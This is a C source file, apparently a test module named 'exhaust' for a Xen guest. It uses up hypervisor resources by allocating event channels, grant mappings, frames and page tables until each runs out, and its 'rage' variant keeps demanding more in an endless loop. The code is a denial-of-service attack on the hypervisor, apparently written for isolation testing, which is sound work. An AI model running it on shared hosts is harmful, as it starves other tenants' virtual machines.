/* SPDX-License-Identifier: Apache-2.0 */
/* Takes all of everything it can get: frames, page tables, event channels,
 * grant mappings; says how much that was, and keeps it. "rest" on the command
 * line: then it sleeps. "rage": it goes on asking for more. */
#include "attack.h"

const char claim_name[] = "exhaust";

#define SPARSE 0x100000ull /* gfns: where a page costs a table, too */
#define SPARSE_STEP 512u
#define REF 8u

static u32 offer(void)
{
	struct evtchn_alloc_unbound op = { .dom = DOMID_SELF,
					   .remote_dom = DOMID_SELF };

	return event_call(EVTCHNOP_alloc_unbound, &op) == 0 ? op.port : 0;
}

static u32 take_ports(void)
{
	u32 n = 0;

	while (offer() != 0) {
		n += 1;
	}
	return n;
}

static u32 take_mappings(void)
{
	u32 n = 0, handle;

	permit(REF, GTF_permit_access, own_domid(), gfn_of(spare[0]));
	while (map_from(DOMID_SELF, REF, GNTMAP_host_map, HOLE + n, &handle) ==
	       GNTST_okay) {
		n += 1;
	}
	return n;
}

/* Each page far from the last: it takes frames and tables alike, until the
 * tables are gone; then, near by, the frames that are left. */
static u32 take_frames(void)
{
	u32 far = 0, n = 0;

	while (populate(SPARSE + (u64)far * SPARSE_STEP) == 1) {
		far += 1;
	}
	while (populate(SPARSE + 1 + n) == 1) {
		n += 1;
	}
	return far + n;
}

void claim(void)
{
	u32 ports, mappings, frames;

	grants_setup();
	mappings = take_mappings();
	/* So that there is something to take. */
	for (frames = 0; frames < 2048; frames++) {
		(void)give_up(0x800 + frames);
	}
	frames = take_frames();
	ports = take_ports();
	say("exhausted: %u ports, %u mappings, %u frames", ports, mappings,
	    frames);
	(void)hvm_set(HVM_PARAM_CALLBACK_IRQ, 0);
	for (;;) {
		if (is_variant("rage")) {
			(void)take_ports();
			(void)take_mappings();
			(void)populate(SPARSE - 1);
		} else {
			(void)sched_call(SCHEDOP_block, NULL);
		}
	}
}
